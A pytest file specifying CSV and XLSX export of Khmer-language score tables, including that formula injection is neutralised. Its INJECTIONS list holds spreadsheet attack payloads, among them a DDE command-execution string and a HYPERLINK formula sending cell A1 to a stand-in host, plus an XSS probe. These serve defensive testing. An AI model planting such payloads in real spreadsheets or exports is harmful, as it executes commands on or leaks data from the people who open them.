"""Exports, as specifications: round trips of Khmer tables through CSV and XLSX, every formula-injection
pattern neutralised in both formats, and what a spreadsheet cannot hold settled as documented."""

import csv
import io
from datetime import UTC, date, datetime, timedelta, timezone

import openpyxl
import pytest

from engine.errors import InputError
from engine.exports import (
    Table,
    csv_view,
    read_csv,
    read_xlsx,
    safe_cell,
    sheet_titles,
    to_csv,
    to_xlsx,
    xlsx_view,
)
from tests.test_boundaries import ENGINE, imported_modules

pytestmark = pytest.mark.trainer

BOM = b"\xef\xbb\xbf"
INJECTIONS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.invalid/?\"&A1, \"click\")",
    "@SUM(A1)",
    "+1+1",
    "-2+3",
    "-5",
    "\t=1+1",
    "\r=1+1",
    "=",
]
SCORES = Table(
    name="Scores",
    columns=("ឈ្មោះ", "Pre", "Post", "Gain", "Started", "Submitted", "Passed"),
    rows=(
        ("សុខ សុភា", 40, 85.5, 0.758, date(2026, 8, 3), datetime(2026, 8, 3, 9, 30, 5), True),
        ("ម៉ៅ ស្រីមុំ", 100, 90, -10, date(2026, 8, 4), datetime(2026, 8, 4, 14, 0), False),
        ("Chan Dara", -3, -2.25, None, None, None, None),
    ),
)


def workbook(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def all_cells(book: openpyxl.Workbook):
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


# --- safe_cell -------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", INJECTIONS + ["\0=1+1"])
def test_safe_cell_prefixes_formula_text_with_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [
    "សុខ សុភា", "a=b", "1+1", "", "'quoted", " =1+1", "<script>alert(1)</script>", "#N/A",
    -5, -2.5, 0, 3.25, True, None, date(2026, 8, 3), datetime(2026, 8, 3, 9, 30),
])
def test_safe_cell_leaves_numbers_dates_and_harmless_text_alone(value):
    assert safe_cell(value) is value


# --- CSV -------------------------------------------------------------------------------------------


def test_csv_starts_with_the_utf8_bom_and_keeps_khmer():
    data = to_csv(SCORES)
    assert data.startswith(BOM)
    assert "ម៉ៅ ស្រីមុំ".encode() in data


def test_csv_is_exactly_the_rfc_4180_text():
    table = Table("t", ("name", "note", "n", "when"), [
        ("សុខ, សុភា", 'said "hi"', -5, datetime(2026, 8, 3, 9, 30, 5, 999)),
        ("two\nlines", None, 0.1, date(2026, 8, 3)),
        ("=1+1", "", True, datetime(2026, 8, 3, 16, 30, tzinfo=timezone(timedelta(hours=7)))),
    ])
    assert to_csv(table).decode("utf-8") == (
        "\ufeffname,note,n,when\r\n"
        '"សុខ, សុភា","said ""hi""",-5,2026-08-03T09:30:05\r\n'
        '"two\nlines",,0.1,2026-08-03\r\n'
        "'=1+1,,TRUE,2026-08-03T09:30:00+00:00\r\n"
    )


def test_csv_round_trip_gives_back_the_text_of_every_cell():
    back = read_csv(to_csv(SCORES), "Scores")
    assert back == csv_view(SCORES)
    assert back.rows == (
        ("សុខ សុភា", "40", "85.5", "0.758", "2026-08-03", "2026-08-03T09:30:05", "TRUE"),
        ("ម៉ៅ ស្រីមុំ", "100", "90", "-10", "2026-08-04", "2026-08-04T14:00:00", "FALSE"),
        ("Chan Dara", "-3", "-2.25", "", "", "", ""),
    )


def test_read_csv_accepts_a_file_without_the_bom():
    assert read_csv(to_csv(SCORES)[len(BOM):], "Scores") == csv_view(SCORES)


@pytest.mark.parametrize("text", INJECTIONS)
def test_csv_neutralises_every_injection_pattern(text):
    data = to_csv(Table("t", ("name",), [(text,), ("x",)]))
    fields = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert fields[1] == ["'" + text]
    assert read_csv(data, "t").rows[0] == ("'" + text,)


def test_csv_neutralises_formula_headers_too():
    assert read_csv(to_csv(Table("t", ("=1+1",), [])), "t").columns == ("'=1+1",)


def test_csv_leaves_html_as_plain_text():
    data = to_csv(Table("t", ("name",), [("<script>alert(1)</script>",)]))
    assert b"<script>alert(1)</script>" in data
    assert read_csv(data, "t").rows == (("<script>alert(1)</script>",),)


# --- XLSX ------------------------------------------------------------------------------------------


def test_xlsx_round_trip_keeps_types_khmer_and_empty_cells():
    [back] = read_xlsx(to_xlsx([SCORES]))
    assert back == SCORES
    assert [type(v) for v in back.rows[0]] == [str, int, float, float, date, datetime, bool]


def test_xlsx_round_trip_of_several_sheets_with_awkward_names():
    names = ["Scores", "ឈ្មោះ/ខេត្ត: [2026]", "scores", "x" * 40, "'quoted'", "History", "?*"]
    tables = [Table(name, ("n",), [(i,)]) for i, name in enumerate(names)]
    data = to_xlsx(tables)
    assert workbook(data).sheetnames == sheet_titles(names)
    assert read_xlsx(data) == [Table(title, ("n",), ((i,),)) for i, title in enumerate(sheet_titles(names))]


@pytest.mark.parametrize(("names", "titles"), [
    (["Scores"], ["Scores"]),
    (["a[b]c:d*e?f/g\\h"], ["a_b_c_d_e_f_g_h"]),
    (["x" * 40], ["x" * 31]),
    (["Scores", "SCORES", "scores"], ["Scores", "SCORES (2)", "scores (3)"]),
    (["x" * 40, "x" * 35], ["x" * 31, "x" * 27 + " (2)"]),
    (["'Pre'", "", "   "], ["Pre", "Sheet", "Sheet (2)"]),
    (["History", "history"], ["History_", "history_ (2)"]),
    (["ក" * 30 + "\u17d2ស"], ["ក" * 30]),
    (["a" * 30 + "'b"], ["a" * 30]),
])
def test_sheet_titles_are_valid_and_unique(names, titles):
    assert sheet_titles(names) == titles


def test_xlsx_sheet_has_a_bold_frozen_header_fitted_columns_and_date_formats():
    sheet = workbook(to_xlsx([SCORES]))["Scores"]
    assert [cell.font.b for cell in sheet[1]] == [True] * 7
    assert [cell.font.b for cell in sheet[2]] == [False] * 7
    assert sheet.freeze_panes == "A2"
    assert sheet["E2"].number_format == "yyyy-mm-dd"
    assert sheet["F2"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert (sheet["B2"].data_type, sheet["C4"].data_type) == ("n", "n")
    # "ម៉ៅ ស្រីមុំ" is 11 code points but 7 columns wide: vowel signs and subscripts stack.
    assert sheet.column_dimensions["A"].width == len("Chan Dara") + 2
    assert sheet.column_dimensions["F"].width == len("2026-08-03T09:30:05") + 2


def test_xlsx_columns_stop_growing_at_sixty_characters():
    sheet = workbook(to_xlsx([Table("t", ("n",), [("x" * 500,)])]))["t"]
    assert sheet.column_dimensions["A"].width == 62


@pytest.mark.parametrize("text", INJECTIONS)
def test_xlsx_neutralises_every_injection_pattern(text):
    data = to_xlsx([Table("t", (text,), [(text,), ("x",)])])
    book = workbook(data)
    stored = book["t"]["A2"].value
    assert stored.startswith("'")
    assert book["t"]["A1"].value == stored
    assert all(cell.data_type != "f" for cell in all_cells(book))
    assert read_xlsx(data)[0].rows[0] == (stored,)


def test_xlsx_has_no_formula_anywhere_in_a_workbook_full_of_attempts():
    tables = [Table(f"s{i}", ("a", "b"), [(text, -1) for text in INJECTIONS]) for i in range(3)]
    cells = all_cells(workbook(to_xlsx(tables)))
    assert all(cell.data_type != "f" for cell in cells)
    assert {cell.value for cell in cells if cell.column == 1 and cell.row > 1} == {"'" + t.replace("\r", "\n") for t in INJECTIONS}
    assert {cell.value for cell in cells if cell.column == 2 and cell.row > 1} == {-1}


def test_xlsx_keeps_error_looking_text_and_html_as_plain_text():
    table = Table("t", ("a",), [("#N/A",), ("<script>alert(1)</script>",)])
    book = workbook(to_xlsx([table]))
    assert [(c.value, c.data_type) for c in all_cells(book)][1:] == [("#N/A", "s"), ("<script>alert(1)</script>", "s")]
    assert read_xlsx(to_xlsx([table])) == [table]


def test_two_xlsx_exports_of_the_same_tables_read_back_equal():
    tables = [SCORES, Table("ខេត្ត", ("province",), [("សៀមរាប",)])]
    assert read_xlsx(to_xlsx(tables)) == read_xlsx(to_xlsx(tables)) == xlsx_view(tables)


def test_what_xlsx_cannot_hold_is_settled_as_documented():
    table = Table("t", ("a", "b"), [
        ("", datetime(2026, 8, 3, 16, 30, 5, 123456, tzinfo=timezone(timedelta(hours=7)))),
        ("one\r\ntwo\rthree\x01", datetime(2026, 8, 3, 9, 30, tzinfo=UTC)),
        (None, None),
    ])
    expected = Table("t", ("a", "b"), [
        (None, datetime(2026, 8, 3, 9, 30, 5)),
        ("one\ntwo\nthree\ufffd", datetime(2026, 8, 3, 9, 30)),
        (None, None),
    ])
    assert xlsx_view([table]) == [expected]
    assert read_xlsx(to_xlsx([table])) == [expected]


def test_an_empty_table_exports_its_header():
    table = Table("Empty", ("ឈ្មោះ", "Score"), [])
    assert read_xlsx(to_xlsx([table])) == [table]
    assert read_csv(to_csv(table), "Empty") == table


# --- tables ----------------------------------------------------------------------------------------


def test_rows_given_as_lists_are_kept_as_tuples():
    assert Table("t", ["a"], [[1]]) == Table("t", ("a",), ((1,),))


def test_a_table_names_every_cell_it_cannot_export():
    with pytest.raises(InputError) as caught:
        Table("Scores", ("name", "score"), [("a", float("nan")), ("b",), ("c", {"x": 1})])
    assert str(caught.value) == (
        "table 'Scores': row 1, column 'score': cannot export nan; row 2: expected 2 cells, received 1; "
        "row 3, column 'score': cannot export {'x': 1}"
    )


def test_exports_import_neither_streamlit_nor_the_database():
    names = imported_modules(ENGINE / "exports.py")
    assert not {n for n in names if n.split(".")[0] in ("streamlit", "sqlalchemy") or n.startswith("engine.store")}
